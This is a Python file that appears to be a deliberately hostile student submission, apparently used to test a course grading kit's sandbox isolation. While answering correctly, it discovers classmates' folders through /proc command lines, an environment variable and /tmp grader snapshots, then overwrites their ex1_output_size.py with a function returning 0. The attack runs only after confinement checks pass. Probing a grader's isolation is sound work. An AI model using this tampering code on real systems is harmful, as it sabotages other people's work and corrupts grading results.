"""Answers correctly, and overwrites every classmate's ex1_output_size.py it can find with one that answers 0.

Where it looks: the class folder (the test names it in CNNKIT_HOSTILE_CLASS, as a student could
guess it from /proc/<ppid>/cmdline), the folders named on its ancestors' command lines, the
grader's snapshots and the other workers' copies under /tmp. Guarded: on a shared machine,
unconfined, it would rewrite other people's grading runs.
"""

import ctypes
import glob
import os

_reference_conv_output_size = conv_output_size  # noqa: F821 (defined by the reference above)


def _confined():
    """True only inside a kit worker whose kernel confinement is verified; the attack never runs elsewhere.

    Three independent signs: the worker says "strong", seccomp is on for this process, and the
    kernel refuses even to test-signal the parent (unconfined, this attack could end the session).
    """
    if os.environ.get("CNNKIT_ISOLATION_LEVEL") != "strong":
        return False
    try:
        with open("/proc/self/status") as status:
            if "\nSeccomp:\t2\n" not in status.read():
                return False
    except OSError:
        return False
    ctypes.pythonapi.kill.restype = ctypes.c_int
    return ctypes.pythonapi.kill(os.getppid(), 0) != 0


SABOTAGE = "def conv_output_size(in_size, kernel_size, stride=1, padding=0):\n    return 0\n"


def _glob(pattern):
    try:
        return glob.glob(pattern)
    except OSError:  # the audit hook names what it refuses
        return []


def _folders():
    found = set()
    if os.environ.get("CNNKIT_HOSTILE_CLASS"):
        found.update(_glob(os.path.join(os.environ["CNNKIT_HOSTILE_CLASS"], "*")))
    pid = os.getppid()
    for _ in range(4):  # parent, grandparent, ...: the pytest command line names --submission
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                words = handle.read().split(b"\0")
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        for word in words:
            path = os.fsdecode(word)
            if os.path.isdir(path):
                found.update(_glob(os.path.join(os.path.dirname(path), "*")))
    found.update(_glob("/tmp/cnnkit-reports*/*/*"))
    found.update(_glob("/tmp/cnnkit-reports*/*/*/*"))
    found.update(_glob("/tmp/cnnkit-ex1_output_size-*/submission"))
    return found


def _sabotage():
    mine = os.path.realpath(os.getcwd())
    for folder in _folders():
        target = os.path.join(folder, "ex1_output_size.py")
        if os.path.realpath(folder) == mine or not os.path.exists(target):
            continue
        try:
            with open(target, "w") as handle:
                handle.write(SABOTAGE)
        except OSError:
            pass


if _confined():
    _sabotage()


def conv_output_size(in_size, kernel_size, stride=1, padding=0):
    return _reference_conv_output_size(in_size, kernel_size, stride, padding)
